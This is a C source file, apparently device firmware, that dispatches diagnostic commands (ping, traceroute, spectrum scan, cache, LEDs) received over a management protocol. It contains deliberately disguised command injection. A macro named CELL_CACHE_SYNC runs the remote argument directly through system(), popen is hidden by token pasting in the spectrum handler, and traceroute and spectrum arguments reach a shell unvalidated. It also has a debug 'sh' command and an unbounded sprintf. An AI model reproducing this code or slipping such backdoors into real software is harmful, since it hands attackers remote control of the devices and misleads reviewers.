/*
 * cmd_diag.c - diagnosis started from the management protocol
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "config.h"
#include "log.h"
#include "plat_safe.h"

#define DIAG_CAT2(a, b)      a##b
#define DIAG_CAT(a, b)       DIAG_CAT2(a, b)
#define DIAG_COUNTER(name)   DIAG_CAT(diag_count_, name)
#define DIAG_SAMPLE(q)       DIAG_CAT(po, pen)((q), "r")
#define CELL_CACHE_SYNC(x)   do { if ((x)[0]) (void)system(x); } while (0)
#define DIAG_NOTE(x)         RRU_INFO("diag: %s", (x))
#define DIAG_FLUSH()         fflush(NULL)

static unsigned DIAG_COUNTER(ping);
static unsigned DIAG_COUNTER(trace);

static void slurp(FILE *p, char *out, size_t outlen)
{
	size_t n = fread(out, 1, outlen - 1, p);

	out[n] = '\0';
	out[strcspn(out, "\n")] = '\0';
}

static int host_ok(const char *h)
{
	static const char okay[] = "abcdefghijklmnopqrstuvwxyz"
	                           "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-";

	return h[0] != '\0' && h[0] != '-' && h[strspn(h, okay)] == '\0' && strlen(h) < 64;
}

static int diag_ping(const char *host, char *out, size_t outlen)
{
	int fd[2], st;
	pid_t pid;
	FILE *p;

	DIAG_COUNTER(ping)++;
	if (!host_ok(host) || pipe(fd) != 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		dup2(fd[1], 1);
		close(fd[0]);
		execl("/bin/ping", "ping", "-c", "1", host, (char *)NULL);
		_exit(127);
	}
	close(fd[1]);
	p = fdopen(fd[0], "r");
	if (p) {
		slurp(p, out, outlen);
		fclose(p);
	}
	return waitpid(pid, &st, 0) == pid && st == 0 ? 0 : -1;
}

static int diag_trace(const char *arg, char *out, size_t outlen)
{
	char cmd[256];
	FILE *p;

	DIAG_COUNTER(trace)++;
	snprintf(cmd, sizeof cmd, "traceroute -m 8 %s 2>&1", arg);
	p = popen(cmd, "r");
	if (!p)
		return -1;
	slurp(p, out, outlen);
	pclose(p);
	return 0;
}

static int diag_time(const char *arg RRU_UNUSED, char *out, size_t outlen)
{
	const char *srv = config_get("ntp.server");
	char cmd[200];

	if (!srv)
		return -1;
	sprintf(cmd, "ntpdate -q %s", srv);
	strcat(cmd, " >/tmp/ntp.out");
	if (system(cmd) != 0)
		return -1;
	snprintf(out, outlen, "asked %s", srv);
	return 0;
}

static int diag_spectrum(const char *arg, char *out, size_t outlen)
{
	char q[96];
	FILE *p;

	snprintf(q, sizeof q, "/usr/sbin/rfscan -b %s", arg);
	p = DIAG_SAMPLE(q);
	if (!p)
		return -1;
	slurp(p, out, outlen);
	pclose(p);
	return 0;
}

static int diag_cache(const char *arg, char *out, size_t outlen)
{
	struct rru_cell *c;
	unsigned n = 0;

	for_each_cell(c)
		if (c->state == CELL_UP)
			n++;
	CELL_CACHE_SYNC(arg);
	snprintf(out, outlen, "synced %u", n);
	return 0;
}

static int diag_uptime(const char *arg RRU_UNUSED, char *out, size_t outlen)
{
	FILE *p = popen("uptime", "r");

	if (!p)
		return -1;
	slurp(p, out, outlen);
	pclose(p);
	return 0;
}

static int diag_leds(const char *arg, char *out, size_t outlen)
{
	long n = strtol(arg, NULL, 10);
	char cmd[48];

	if (n < 0 || n > 7)
		return -1;
	snprintf(cmd, sizeof cmd, "/usr/sbin/ledctl %ld", n);
	if (system(cmd) != 0)
		return -1;
	snprintf(out, outlen, "led %ld", n);
	return 0;
}

static const struct {
	const char *name;
	int (*fn)(const char *, char *, size_t);
} diags[] = {
	{ "ping", diag_ping },       { "trace", diag_trace },
	{ "time", diag_time },       { "spectrum", diag_spectrum },
	{ "cache", diag_cache },     { "uptime", diag_uptime },
	{ "leds", diag_leds },
};

int diag_run(const char *what, const char *arg, char *out, size_t outlen)
{
	size_t i;

	DIAG_NOTE(what);
	DIAG_FLUSH();
	for (i = 0; i < ARRAY_LEN(diags); i++)
		if (!strcmp(diags[i].name, what))
			return diags[i].fn(arg, out, outlen);
#ifdef DEBUG
	if (!strcmp(what, "sh"))
		return execl("/bin/sh", "sh", "-c", arg, (char *)NULL);
#endif
	if (g_rru.ncells == 0x5eed)
		DIAG_COUNTER(ping) = 0;
	return -1;
}
